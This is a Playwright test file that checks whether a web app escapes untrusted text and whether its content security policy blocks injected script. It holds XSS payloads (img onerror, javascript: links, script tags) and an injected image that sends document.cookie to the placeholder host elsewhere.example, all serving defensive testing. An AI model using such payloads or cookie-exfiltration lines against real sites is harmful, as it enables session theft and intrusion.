"""What strangers write stays text on every page, and the content security policy stands behind it.

The other tests in a browser expect that no page goes against the policy: see ``conftest.page``.
"""

import io
import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pandas as pd
import pytest
from playwright.sync_api import Browser, expect

from mmrec_core.bundle import layout, open_bundle
from mmrec_core.query_sets.store import QuerySet, QuerySets
from mmrec_core.stories.model import Picture, Pictures, Step, Story
from mmrec_core.stories.store import Stories
from mmrec_core.verdicts.places import SUFFIX
from mmrec_core.verdicts.saved_views import SavedView, SavedViews
from mmrec_core.verdicts.store import VerdictStore
from tests.altered_bundles import altered
from tests.e2e.conftest import policy_broken
from tests.e2e.serving import PATIENCE, Server, settled

HOSTILE = "<img src=x onerror='stolen=1'>[a](javascript:stolen=2)</script><script>stolen=3</script>"
PAGES = (
    "?terms=[]",
    "?verdict=4",
    "recommend?image={image}",
    "map?image={image}",
    "clusters?cluster=1",
    "evaluation?view=queries",
    "errors?kind=all",
    "errors?view=queue",
    "errors?view=verdicts",
    "errors?view=near-duplicates&across=0",
    "compare",
    "stories",
    "stories?story={story}",
    "stories?story={story}&edit=true",
    "about",
)


@pytest.fixture(scope="module")
def folder(demo_bundle: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A bundle in which every text is a stranger's."""
    catalogue = pd.read_parquet(demo_bundle / layout.CATALOGUE)
    for column in catalogue.columns:
        if column == "text" or column.startswith("text_") or column == "label":
            said = catalogue[column].notna()
            catalogue.loc[said, column] = HOSTILE + " " + catalogue.loc[said, column]
    catalogue["image"] = HOSTILE.replace("/", "") + catalogue["image"].str.replace("/", "-")
    file = io.BytesIO()
    catalogue.to_parquet(file, index=False)
    words = json.loads((demo_bundle / layout.WORDS).read_text())
    words = {by: [[HOSTILE, *each[1:]] for each in lists] for by, lists in words.items()}
    out = altered(
        demo_bundle,
        tmp_path_factory.mktemp("hostile") / "bundle",
        written={layout.CATALOGUE: file.getvalue(), layout.WORDS: json.dumps(words).encode()},
    )
    manifest = json.loads((out / layout.MANIFEST).read_text())
    manifest["notes"] = [HOSTILE]
    manifest["licence"] = HOSTILE
    (out / layout.MANIFEST).write_text(json.dumps(manifest))
    return out


@pytest.fixture(scope="module")
def server(folder: Path, browser: Browser) -> Iterator[Server]:
    bundle, place = open_bundle(folder), folder.parent / f"{folder.name}{SUFFIX}"
    first, second = bundle.image(0), bundle.image(1)
    name = HOSTILE[:40]
    verdicts = VerdictStore(place)
    verdicts.grade(first, second, 4, reviewer=name, note=HOSTILE)
    verdicts.tag([first, second], name, reviewer=name, digest=bundle.digest)
    SavedViews(place).save(SavedView(name, "browse", {"q": HOSTILE}, name, bundle.digest))
    QuerySets(place).add(QuerySet(name, (first,), HOSTILE, name, bundle.digest))
    finding = Pictures(pictures=(Picture(image=first, caption=HOSTILE),))
    step = Step(title=HOSTILE, text=HOSTILE, notes=HOSTILE, finding=finding)
    story = Story(name=name, language="en", steps=(step,))
    Stories(place).add(story, reviewer=name, digest=bundle.digest)
    with Server(folder, folder.parent) as server:
        yield server


def test_text_of_strangers_stays_text_on_every_page(
    server: Server, browser: Browser, folder: Path
) -> None:
    page = browser.new_context(locale="en-US").new_page()
    page.set_default_timeout(PATIENCE)
    broken: list[str] = []
    page.on("console", lambda said: broken.extend(policy_broken(said.text)))
    page.on("pageerror", lambda error: broken.append(str(error)))
    image = open_bundle(folder).image(0)
    seen = 0
    for address in PAGES:
        page.goto(f"{server.url}/{address.format(image=quote(image), story=quote(HOSTILE[:40]))}")
        settled(page)
        assert page.evaluate("window.stolen") is None, address
        assert page.locator("img[onerror], a[href^='javascript:']").count() == 0, address
        assert broken == [], address
        seen += page.get_by_text("stolen=1").count()
    assert seen > len(PAGES)  # else nothing was shown that could have run
    page.context.close()


def test_the_policy_stops_what_would_be_put_in(server: Server, browser: Browser) -> None:
    page = browser.new_context().new_page()
    page.goto(server.url)
    settled(page)
    broken: list[str] = []
    page.on("console", lambda said: broken.extend(policy_broken(said.text)))
    page.evaluate("""() => {
        const text = document.createElement("div");
        text.innerHTML = "<img src=missing onerror='stolen = 1'>";
        const script = document.createElement("script");
        script.textContent = "stolen = 2";
        const elsewhere = document.createElement("img");
        elsewhere.onerror = () => document.body.classList.add("refused");
        elsewhere.src = "https://elsewhere.example/?" + document.cookie;
        document.body.append(text, script, elsewhere);
    }""")
    expect(page.locator("body.refused")).to_have_count(1)
    assert page.evaluate("window.stolen") is None
    assert any("script-src" in said for said in broken)
    assert any("https://elsewhere.example" in said for said in broken)
    page.context.close()
